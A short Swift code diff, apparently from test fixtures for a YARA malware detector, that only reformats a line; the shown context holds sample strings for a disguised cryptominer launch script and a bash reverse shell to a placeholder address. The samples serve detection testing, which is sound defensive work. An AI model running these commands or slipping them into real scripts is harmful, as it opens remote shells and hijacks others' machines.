@@ -37,7 +37,8 @@ public enum YaraSamples {
 
     /// A script that starts a miner against a Stratum pool.
     public static let minerScript = Array(
-        "#!/bin/sh\ncd /dev/shm && ./kworker -o stratum+tcp://pool.example.org:3333 -u 4A1b2C3d --donate-level 1\n".utf8)
+        "#!/bin/sh\ncd /dev/shm && ./kworker -o stratum+tcp://pool.example.org:3333 -u 4A1b2C3d --donate-level 1\n".utf8
+    )
 
     /// A script holding the classic bash reverse shell.
     public static let reverseShellScript = Array("#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n".utf8)
